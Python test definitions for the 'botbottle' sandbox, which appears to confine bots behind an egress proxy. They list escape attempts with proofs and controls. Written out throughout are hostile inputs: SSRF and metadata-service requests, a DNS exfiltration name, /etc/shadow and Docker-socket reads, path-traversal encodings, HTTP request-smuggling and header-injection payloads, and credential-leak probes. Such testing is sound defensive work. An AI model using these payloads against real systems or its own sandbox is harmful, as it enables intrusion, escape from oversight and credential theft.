"""The attempts, by name. Each says what is run inside the bottle, what would prove that it got out,
and what its positive control is: the same steps where nothing is in the way."""

import dataclasses
import re
import secrets
import typing
import urllib.parse

import world as surroundings
from lib import testbed as addresses

PROXY = "127.0.0.1:9099"
CA_BUNDLE = "/etc/ssl/certs/ca-certificates.crt"


@dataclasses.dataclass
class Attempt:
    name: str
    claim: str
    function: str        # of the folder `inside`, as module.function
    parameters: dict
    # Requests that upstreams recorded and that prove an escape. Given this, the attempt's own word
    # does not count: a refused request is an answer, too.
    proof: typing.Callable = None
    # What the control runs instead: (function, parameters); None for the same.
    control: tuple = None
    control_as_root: bool = False  # the right that it needs is one that only root has outside
    unavailable: typing.Callable = None  # says why this kernel cannot show it, or None


def nonce():
    return "n" + secrets.token_hex(8)


# ---- a network other than the proxy


def network(world):
    token = nonce()

    def reaching(name, host, port, function="network.tcp", **more):
        return Attempt(name, "network", function,
                       {"host": host, "port": port, "nonce": token, **more})
    yield reaching("tcp to a public address", addresses.PUBLIC, 7)
    yield reaching("tcp to a public IPv6 address", addresses.PUBLIC6, 7)
    yield reaching("tcp to a private network", addresses.PRIVATE, 7)
    yield reaching("tcp to the gateway", addresses.GATEWAY, 7)
    yield reaching("tcp to the host's loopback", "127.0.0.1", world.loop_tcp.port)
    yield reaching("tcp to the host's IPv6 loopback", "::1", world.loop_tcp6.port)
    yield reaching("tcp to the host's own address", addresses.HOST_ADDRESS, world.outer_tcp.port)
    yield reaching("udp to a public address", addresses.PUBLIC, 7, "network.udp")
    yield reaching("udp to a public IPv6 address", addresses.PUBLIC6, 7, "network.udp")
    yield reaching("udp to the host's loopback", "127.0.0.1", world.loop_udp_port, "network.udp")
    yield reaching("udp broadcast", "10.77.0.255", 7, "network.udp", broadcast=True)
    yield Attempt("metadata service", "network", "network.http",
                  {"host": addresses.METADATA, "port": 80, "path": f"/latest?{token}"})
    yield Attempt("dns by getaddrinfo", "network", "network.getaddrinfo",
                  {"name": "allowed.example.com"})
    yield Attempt("dns of a name that nobody may learn", "network", "network.getaddrinfo",
                  {"name": f"{token}.exfiltration.example.com"},
                  control=("network.getaddrinfo", {"name": "other.example.com"}))
    yield Attempt("dns by packet to a public resolver", "network", "network.dns_packet",
                  {"resolver": addresses.RESOLVER, "name": "allowed.example.com"})
    yield Attempt("dns by packet to the host's resolver", "network", "network.dns_packet",
                  {"resolver": addresses.GATEWAY, "name": "allowed.example.com"})
    yield Attempt("icmp echo", "network", "network.icmp", {"host": addresses.PUBLIC})
    yield Attempt("icmp echo by raw socket", "network", "network.icmp",
                  {"host": addresses.PUBLIC, "raw": True}, control_as_root=True)
    yield Attempt("icmp6 echo", "network", "network.icmp", {"host": addresses.PUBLIC6})
    yield Attempt("packet socket on the host's wire", "network", "network.packet_socket",
                  {"device": "up0"}, control_as_root=True)
    yield Attempt("netlink: the host's interfaces", "network", "network.interfaces",
                  {"device": "up0"})
    yield Attempt("netlink: the host's sockets", "network", "network.host_sockets",
                  {"port": world.loop_tcp.port})
    yield Attempt("netlink: the kernel's device events", "network", "network.uevents", {},
                  control_as_root=True)
    yield Attempt("vsock", "network", "network.vsock", {}, unavailable=no_vsock)


def no_vsock(_world):
    try:
        with open("/proc/net/protocols") as protocols:
            return None if "AF_VSOCK" in protocols.read() else "this kernel has no AF_VSOCK"
    except OSError:
        return None


# ---- the host


def host(world, bottle, neighbour):
    marker, secret = world.marker, world.secret_file
    key = "botbottle-" + nonce()
    engine = {"path": "/run/docker.sock", "say": "GET / HTTP/1.0\n", "expect": "GET"}
    yield Attempt("engine socket", "host", "host.unix_socket", engine)
    yield Attempt("unix socket of the host in /tmp", "host", "host.unix_socket",
                  {"path": world.file_socket, "say": "hello", "expect": "hello"})
    yield Attempt("abstract socket of the host", "host", "network.abstract",
                  {"name": world.abstract_name})
    yield Attempt("unix sockets in sight", "host", "host.sockets_in_sight",
                  {"allowed": ["/run/botbottle/sockets/egress.sock"]})
    yield Attempt("the host's file by its path", "host", "host.read_file",
                  {"path": secret, "needle": marker})
    yield Attempt("the host's file by a link in the workspace", "host", "host.read_file",
                  {"path": f"{bottle.GUEST_WORKSPACE}/link-out", "needle": marker},
                  control=("host.read_file",
                           {"path": str(bottle.home.work / "link-out"), "needle": marker}))
    yield Attempt("the host's file by a new link", "host", "host.read_through_link",
                  {"folder": "/tmp", "path": secret, "needle": marker})
    yield Attempt("the host's file by /proc/PID/root", "host", "host.read_through_process_roots",
                  {"path": secret, "needle": marker})
    yield Attempt("the host's password hashes", "host", "host.read_file",
                  {"path": "/etc/shadow", "needle": "root"}, control_as_root=True)
    yield Attempt("the operator's settings", "host", "host.read_file",
                  {"path": str(bottle.home.config / "settings.yaml"), "needle": "upstream"})
    yield Attempt("a process of the host by its number", "host", "host.signal_process",
                  {"pid": world.process.pid, "needle": marker})
    yield Attempt("writing below /proc", "host", "host.writable_below", {"root": "/proc"},
                  control_as_root=True)
    yield Attempt("writing below /sys", "host", "host.writable_below", {"root": "/sys"},
                  control_as_root=True)
    yield Attempt("a key in the user's keyring", "host", "host.find_key", {"description": key},
                  control=("host.plant_and_find_key", {"description": key}))
    yield Attempt("System V memory of the host", "host", "host.system_v_memory",
                  {"key": world.segment_key})
    yield Attempt("a set-user-id program", "host", "host.setuid_program", {"path": "/usr/bin/su"},
                  control=("host.setuid_program", {"path": "/usr/bin/su"}),
                  unavailable=lambda w: "root gains nothing from set-user-id root"
                  if w.account.uid == 0 else None)
    yield from botbottles_own(bottle, neighbour)


def botbottles_own(bottle, neighbour):
    """botbottle's own doors: the control sockets, the sessions, the other bottle's."""
    status = '{"id": 1, "method": "status", "params": {}}\n'
    sessions = {"say": "L", "expect": "L", "kind": "packets"}

    def door(name, path, **how):
        return Attempt(name, "botbottle", "host.unix_socket", {"path": str(path), **how})
    yield door("own control socket", bottle.runtime / "control.sock",
               say=status, expect="result")
    if not bottle.smolvm:  # into a virtual machine no socket leads
        yield door("own session socket", bottle.session_socket, **sessions)
        yield door("another bottle's session socket", neighbour.session_socket, **sessions)
    yield door("another bottle's control socket", neighbour.runtime / "control.sock",
               say=status, expect="result")
    healthz = "GET http://_egress.local/healthz HTTP/1.1\r\nHost: _egress.local\r\n\r\n"
    yield door("another bottle's egress", neighbour.runtime / "sockets" / "egress.sock",
               say=healthz, expect="200")
    yield door("own egress by its path on the host", bottle.runtime / "sockets" / "egress.sock",
               say=healthz, expect="200")
    yield Attempt("another bottle's workspace", "botbottle", "host.read_file",
                  {"path": neighbour.copied("note"), "needle": "a note"})
    for name, method in (("policy.show", "policy.show"), ("policy.replace", "policy.replace"),
                         ("secret.set", "secret.set"), ("stop", "stop")):
        yield Attempt(f"control message through the proxy: {name}", "botbottle",
                      "proxy.control_messages",
                      {"proxy": PROXY, "messages": [{"id": 1, "method": method, "params": {}}]},
                      control=("host.unix_socket",
                               {"path": str(bottle.runtime / "control.sock"),
                                "say": '{"id": 1, "method": "policy.show", "params": {}}\n',
                                "expect": "result"}))


# ---- through the proxy


def get(target, host, *headers, token="", method="GET"):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"X-Nonce: {token}", *headers,
             "Connection: close"]
    return "\r\n".join(lines) + "\r\n\r\n"


class Proxied:
    """Makes attempts whose proof is what the upstreams recorded, and whose control sends the same
    bytes to the upstream itself."""

    def __init__(self, world):
        self.world = world

    def recorded(self, token):
        return lambda: self.world.requests_with(token)

    def tunnel(self, name, authority, request, token, server_name=None, proof=None,
               address=None, port=443, claim="proxy"):
        parameters = {"proxy": PROXY, "authority": authority, "request": request,
                      "server_name": server_name}
        direct = {"address": address or surroundings.ALLOWED, "port": port, "request": request,
                  "server_name": server_name or authority.rpartition(":")[0].strip("[]")}
        return Attempt(name, claim, "proxy.tunnel", parameters, proof or self.recorded(token),
                       ("proxy.direct_tls", direct))

    def plain(self, name, request, token, address, port=80, claim="policy"):
        return Attempt(name, claim, "proxy.plain", {"proxy": PROXY, "request": request},
                       self.recorded(token),
                       ("proxy.direct", {"address": address, "port": port, "request": request}))


def unlisted(world):
    make = Proxied(world)
    other = surroundings.OTHER

    def connect(name, authority, server_name="other.example.com", address=other, port=443):
        token = nonce()
        return make.tunnel(name, authority, get(f"/{token}", server_name, token=token), token,
                           server_name, address=address, port=port, claim="policy")
    yield connect("unlisted host by CONNECT", "other.example.com:443")
    yield connect("unlisted host in capitals", "OTHER.EXAMPLE.COM:443")
    yield connect("unlisted host below a listed one", "deep.allowed.example.com:443",
                  "deep.allowed.example.com", surroundings.ALLOWED)
    yield connect("listed host as a suffix", "notallowed.example.com:443",
                  "notallowed.example.com", surroundings.ALLOWED)
    yield connect("listed host as a prefix", "allowed.example.com.other.example.com:443")
    yield connect("userinfo before the host", "allowed.example.com@other.example.com:443")
    yield connect("userinfo with a port", "allowed.example.com:443@other.example.com:443")
    yield connect("NUL in the host", "other.example.com\0.allowed.example.com:443")
    yield connect("space in the host", "other.example.com .allowed.example.com:443")
    yield connect("percent-encoded host", "other%2eexample.com:443")
    yield connect("full-width dots in the host", "other\u3002example\u3002com:443"
                  .encode().decode("latin-1"))
    yield connect("fragment in the authority", "other.example.com:443#allowed.example.com:443")
    yield connect("backslash in the authority", "other.example.com:443\\allowed.example.com:443")
    yield connect("unlisted port of a listed host", "allowed.example.com:8443",
                  "allowed.example.com", surroundings.ALLOWED, 8443)
    yield connect("port with leading zeros", "other.example.com:000443")
    yield connect("port that wraps around", "other.example.com:65979")
    for spelling in ("93.184.215.15", "93.184.215.15.", "1572394767", "0x5db8d70f",
                     "0135.0270.0327.017", "93.184.55055", "93.12113679", "0x5d.0xb8.0xd7.0xf",
                     "[::ffff:93.184.215.15]", "[::ffff:5db8:d70f]", "[0:0:0:0:0:ffff:5db8:d70f]",
                     "[64:ff9b::5db8:d70f]"):
        yield connect(f"address as {spelling}", f"{spelling}:443")
    token = nonce()
    yield make.plain("unlisted host by absolute form",
                     get(f"http://other.example.com/{token}", "other.example.com"), token, other)
    token = nonce()
    yield make.plain("absolute form with another Host",
                     get(f"http://other.example.com/{token}", "plain.example.com"), token, other)
    token = nonce()
    yield make.plain("Host of the unlisted, target of the listed",
                     get(f"http://plain.example.com/{token}", "other.example.com"), token, other)
    token = nonce()
    yield make.plain("origin form to the proxy",
                     get(f"/{token}", "other.example.com"), token, other)
    for spelling in ("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "localhost",
                     "[::1]", "[::]", "[::ffff:127.0.0.1]"):
        token = nonce()
        yield make.plain(f"the host's loopback as {spelling}",
                         get(f"http://{spelling}/{token}", spelling), token, "127.0.0.1")
    token = nonce()
    yield make.plain("metadata service through the proxy",
                     get(f"http://{addresses.METADATA}/{token}", addresses.METADATA), token,
                     addresses.METADATA)


def identity(world):
    make = Proxied(world)
    allowed, other = "allowed.example.com", "other.example.com"
    path = surroundings.OPEN_PATH

    def disagree(name, request, token, server_name=allowed, authority=f"{allowed}:443", **more):
        return make.tunnel(name, authority, request, token, server_name, claim="identity", **more)
    token = nonce()
    yield disagree("SNI of another host", get(path + token, allowed), token, other)
    token = nonce()
    yield disagree("SNI of another listed host", get(path + token, allowed), token,
                   "bare.example.com")
    token = nonce()
    yield disagree("Host of another host", get(path + token, other), token)
    token = nonce()
    yield disagree("Host of another listed host", get("/" + token, "bare.example.com"), token)
    token = nonce()
    yield disagree("absolute form of another host inside the tunnel",
                   get(f"https://{other}{path}{token}", allowed), token)
    token = nonce()
    yield disagree("two Host headers", get(path + token, allowed, f"Host: {other}"), token)
    token = nonce()
    yield disagree("Host with a port that is not the tunnel's", get(path + token, f"{allowed}:80"),
                   token)
    token = nonce()
    yield disagree("CONNECT inside the tunnel",
                   f"CONNECT {other}:443 HTTP/1.1\r\nHost: {other}:443\r\nX-Nonce: {token}\r\n\r\n",
                   token)
    token = nonce()
    first, second = get(path, allowed).replace("Connection: close\r\n", ""), \
        get(path + token, other)
    yield Attempt("second request of a connection for another host", "identity", "proxy.pipelined",
                  {"proxy": PROXY, "authority": f"{allowed}:443", "requests": [first, second]},
                  make.recorded(token),
                  ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 443,
                                        "server_name": allowed, "request": first + second}))
    token = nonce()
    plain = get(f"/{token}", "plain.example.com", token=token)
    yield Attempt("plain HTTP in a tunnel to a TLS port", "identity", "proxy.raw_tunnel",
                  {"proxy": PROXY, "authority": f"{allowed}:443", "text": plain},
                  make.recorded(token),
                  ("proxy.direct", {"address": surroundings.ALLOWED, "port": 80, "request": plain}))
    token = nonce()
    yield Attempt("bytes of another protocol in a tunnel", "identity", "proxy.raw_tunnel",
                  {"proxy": PROXY, "authority": f"{allowed}:443",
                   "text": f"SSH-2.0-attack {token}\r\n"}, make.recorded(token),
                  ("network.tcp", {"host": surroundings.ALLOWED, "port": 7, "nonce": token}))


def outside(target, prefixes=(surroundings.OPEN_PATH,)):
    """Whether a careless server would see a path that is below none of these: decoded up to three
    times, backslashes as slashes, path parameters dropped, dots resolved."""
    path = target.partition("?")[0]
    path = re.sub("%c0%ae|%uff0e", ".", path, flags=re.IGNORECASE)  # overlong, and full-width
    for _ in range(3):
        path = urllib.parse.unquote(path, errors="replace")
    path = re.sub(r"[\0-\x20]", "", path.replace("\\", "/"))
    path = re.sub(r";[^/]*", "", path)
    parts = []
    for part in path.split("/"):
        if part == "..":
            parts = parts[:-1]
        elif part not in ("", "."):
            parts.append(part)
    return not ("/" + "/".join(parts) + "/").startswith(tuple(prefixes))


def traversal(world):
    make = Proxied(world)
    for spelling in ("/secret", "/open/../secret", "/open/%2e%2e/secret", "/open/.%2e/secret",
                     "/open/%2E%2E/secret", "/open/..%2fsecret", "/open%2f..%2fsecret",
                     "/open/%2e%2e%2fsecret", "/open/..\\secret", "/open/..%5csecret",
                     "/open/%2e%2e%5csecret", "/open/..;/secret", "/open/..;a=b/secret",
                     "/open/.%00./secret", "/open/..%00/secret", "/open/%252e%252e/secret",
                     "/open/..%252fsecret", "/open/%25%32%65%25%32%65/secret",
                     "/open/%c0%ae%c0%ae/secret", "/open/%uff0e%uff0e/secret", "/open//../../secret",
                     "/open/x/../../secret", "//secret", "/./secret", "/openly/secret", "/OPEN/secret",
                     "/open/../open/../secret", "/open/\t../secret", "/%6fpen/../secret",
                     "*", "secret"):
        token = nonce()
        request = get(f"{spelling}?{token}", "allowed.example.com")

        def proof(token=token):
            return [r for r in world.requests_with(token) if outside(r.target)]
        yield make.tunnel(f"path {spelling!r}", "allowed.example.com:443", request, token,
                          proof=proof, claim="path")
    token = nonce()
    yield make.tunnel("method that the route does not name", "methods.example.com:443",
                      get(f"/{token}", "methods.example.com", method="DELETE"), token, claim="path")
    token = nonce()
    yield make.tunnel("method override by a header", "methods.example.com:443",
                      get(f"/{token}", "methods.example.com", "X-HTTP-Method-Override: DELETE",
                          method="POST"), token, claim="path")


def smuggling(world):
    hidden = "GET /smuggled-{token} HTTP/1.1\r\nHost: {host}\r\n\r\n"

    def framed(name, host, headers, body):
        token = nonce()
        tail = hidden.format(token=token, host=host)
        text = body(tail)
        lines = [line.format(whole=len(text), short=len(text) - len(tail)) for line in headers]
        request = f"POST /first HTTP/1.1\r\nHost: {host}\r\n" + "\r\n".join(lines) + "\r\n\r\n" + text

        def proof():
            return [r for r in world.lenient.requests if f"/smuggled-{token}" in r.target]
        return Attempt(name, "smuggling", "proxy.tunnel",
                       {"proxy": PROXY, "authority": f"{host}:444", "request": request}, proof,
                       ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 444,
                                             "server_name": host, "request": request}))

    def ended(tail):
        return "0\r\n\r\n" + tail

    def chunk(tail):
        return f"{len(tail):x}\r\n{tail}\r\n0\r\n\r\n"
    te, cl, last = "te.example.com", "cl.example.com", "last.example.com"
    chunked = "Transfer-Encoding: chunked"
    yield framed("CL.TE", te, ["Content-Length: {whole}", chunked], ended)
    yield framed("TE.CL", te, [chunked, "Content-Length: {whole}"], ended)
    yield framed("CL.TE read by length", cl, ["Content-Length: {short}", chunked], ended)
    yield framed("space before the colon", te,
                 ["Content-Length: {whole}", "Transfer-Encoding : chunked"], ended)
    yield framed("tab before the colon", te,
                 ["Content-Length: {whole}", "Transfer-Encoding\t: chunked"], ended)
    yield framed("chunked spelt xchunked", te,
                 ["Content-Length: {whole}", "Transfer-Encoding: xchunked"], ended)
    yield framed("chunked, identity", te,
                 ["Content-Length: {whole}", "Transfer-Encoding: chunked, identity"], ended)
    yield framed("vertical tab before chunked", te,
                 ["Content-Length: {whole}", "Transfer-Encoding: \x0bchunked"], ended)
    yield framed("two Transfer-Encoding headers", te,
                 ["Content-Length: {whole}", "Transfer-Encoding: identity", chunked], ended)
    yield framed("two Content-Length headers, first counts", cl,
                 ["Content-Length: {short}", "Content-Length: {whole}"], lambda tail: tail)
    yield framed("two Content-Length headers, last counts", last,
                 ["Content-Length: {whole}", "Content-Length: {short}"], lambda tail: tail)
    yield framed("Content-Length with a list", cl, ["Content-Length: {short}, {whole}"],
                 lambda tail: tail)
    yield framed("Content-Length with a sign", cl, ["Content-Length: +{short}"], lambda tail: tail)
    yield framed("folded Transfer-Encoding", te,
                 ["Content-Length: {whole}", "Transfer-Encoding:\r\n chunked"], ended)
    yield framed("bare line feed before Transfer-Encoding", te,
                 ["Content-Length: {whole}\nTransfer-Encoding: chunked"], ended)
    yield framed("length of nothing, then a request", cl, ["Content-Length: 0"], lambda tail: tail)


def injection(world):
    path = surroundings.OPEN_PATH

    def proof_of(token):
        return lambda: [r for r in world.requests_with(token)
                        if r.header("x-injected") or r.target.startswith("/injected")]

    def inject(name, request, token):
        straight = get(path + token, "allowed.example.com", "X-Injected: yes")
        return Attempt(name, "injection", "proxy.tunnel",
                       {"proxy": PROXY, "authority": "allowed.example.com:443", "request": request},
                       proof_of(token),
                       ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 443,
                                             "server_name": "allowed.example.com",
                                             "request": straight}))
    for name, target in (("encoded line end in the path", "{p}{t}%0d%0aX-Injected:%20yes"),
                         ("encoded line end in the query", "{p}?{t}%0d%0aX-Injected:%20yes"),
                         ("bare carriage return in the target", "{p}{t}\rX-Injected: yes")):
        token = nonce()
        yield inject(name, get(target.format(p=path, t=token), "allowed.example.com"), token)
    for name, value in (("bare carriage return in a value", "a\rX-Injected: yes"),
                        ("NUL in a value", "a\0\r\n\0X-Injected: yes"),
                        ("obsolete fold in a value", "a\r\n\tX-Injected: yes")):
        token = nonce()
        yield inject(name, get(path + token, "allowed.example.com", f"X-Carrier: {value}"), token)
    token = nonce()
    yield Attempt("line end in the CONNECT target", "injection", "proxy.plain",
                  {"proxy": PROXY, "request":
                   "CONNECT allowed.example.com:443\r\nX-Injected: yes HTTP/1.1\r\n\r\n" +
                   get(path + token, "allowed.example.com")}, proof_of(token),
                  ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 443,
                                        "server_name": "allowed.example.com",
                                        "request": get(path + token, "allowed.example.com",
                                                       "X-Injected: yes")}))


def credentials(world):
    make = Proxied(world)
    path = surroundings.OPEN_PATH
    for header in ("Authorization: Bearer {k}", "x-api-key: {k}", "api-key: {k}",
                   "x-goog-api-key: {k}", "PRIVATE-TOKEN: {k}", "JOB-TOKEN: {k}",
                   "X-Auth-Token: {k}", "Proxy-Authorization: Basic {k}"):
        for host in ("allowed.example.com", "bare.example.com"):
            key = "foreign-" + nonce()
            request = get(path, host, header.format(k=key))
            yield make.tunnel(f"foreign {header.split(':')[0]} to {host}", f"{host}:443", request,
                              key, claim="credentials")
    key = "foreign-" + nonce()
    yield make.tunnel("foreign key hidden by Connection", "bare.example.com:443",
                      get("/", "bare.example.com", f"X-Api-Key: {key}", "Connection: x-api-key"),
                      key, claim="credentials")

    def leaks(name, method, *headers, needle=world.token):
        token = nonce()
        request = get(f"/{token}", "echo.example.com", *headers, method=method)
        return Attempt(name, "credentials", "proxy.tunnel",
                       {"proxy": PROXY, "authority": "echo.example.com:443", "request": request,
                        "needle": needle},
                       None,
                       ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 443,
                                             "server_name": "echo.example.com",
                                             "request": get(f"/{token}", "echo.example.com",
                                                            f"Authorization: {world.token}"),
                                             "needle": needle}))
    yield leaks("credential from a server that echoes", "GET")
    yield leaks("credential by TRACE", "TRACE")
    # A session that an origin gives whom it knows is worth what the credential is.
    yield leaks("session from a server that sets a cookie", "GET", needle=world.session)
    yield leaks("session by HEAD", "HEAD", needle=world.session)
    yield leaks("session of a connection that a cookie is named in", "GET", "Connection: set-cookie, cookie",
                needle=world.session)
    for header in ("Cookie: sid={k}", "cookie: a=b; sid={k}", "Cookie2: sid={k}"):
        key = "foreign-" + nonce()
        yield make.tunnel(f"session of another's, {header.split('=')[0]}", "allowed.example.com:443",
                          get(path, "allowed.example.com", header.format(k=key)), key, claim="credentials")
    yield Attempt("credential from the egress's own pages", "credentials", "proxy.plain",
                  {"proxy": PROXY, "needle": world.token,
                   "request": get("http://_egress.local/allowlist", "_egress.local")}, None,
                  ("proxy.direct_tls", {"address": surroundings.ALLOWED, "port": 443,
                                        "server_name": "echo.example.com", "needle": world.token,
                                        "request": get("/", "echo.example.com",
                                                       f"Authorization: {world.token}")}))


def addresses_behind_names(world):
    make = Proxied(world)
    for host, address, what in (
            ("private.example.com", addresses.PRIVATE, "a private address"),
            ("metadata.example.com", addresses.METADATA, "the metadata service"),
            ("loop.example.com", "127.0.0.1", "the host's loopback"),
            ("loop6.example.com", "::1", "the host's IPv6 loopback"),
            ("mapped.example.com", "127.0.0.1", "the loopback as a mapped address"),
            ("unique.example.com", addresses.GATEWAY6, "a unique local address"),
            ("own.example.com", surroundings.OWN, "a public address of the machine itself")):
        token = nonce()
        yield make.plain(f"listed name with {what}", get(f"http://{host}/{token}", host), token,
                         address, claim="addresses")
    token = nonce()
    inner = get(f"http://rebind.example.com/{token}", "rebind.example.com")

    def rebound(token=token):
        return [r for r in world.host_loop.requests if token in r.target]
    yield Attempt("rebinding name", "addresses", "proxy.repeated",
                  {"proxy": PROXY, "request": inner, "times": 8}, rebound,
                  ("proxy.direct", {"address": "127.0.0.1", "port": 80, "request": inner}))
    for name, goal in (("redirect to the metadata service", f"http://{addresses.METADATA}"),
                       ("redirect to the host's loopback", "http://127.0.0.1"),
                       ("redirect to an unlisted host", "http://other.example.com")):
        token = nonce()

        def arrived(token=token):
            return [r for r in world.requests_with(token) if not r.target.startswith("/to?")]
        url = f"https://redirect.example.com/to?{goal}/{token}"
        yield Attempt(name, "addresses", "proxy.follow",
                      {"proxy": PROXY, "url": url, "ca": CA_BUNDLE}, arrived,
                      ("proxy.follow", {"proxy": None, "url": url,
                                        "ca": str(world.authority.certificate)}))
    for name, host, port in (("upstream certificate of another host", "wrong.example.com", 443),
                             ("upstream certificate of a stranger", "stranger.example.com", 444),
                             ("upstream certificate that has expired", "expired.example.com", 445)):
        token = nonce()
        yield make.tunnel(name, f"{host}:{port}", get(f"/{token}", host), token,
                          address=surroundings.REBOUND, port=port, claim="upstream")
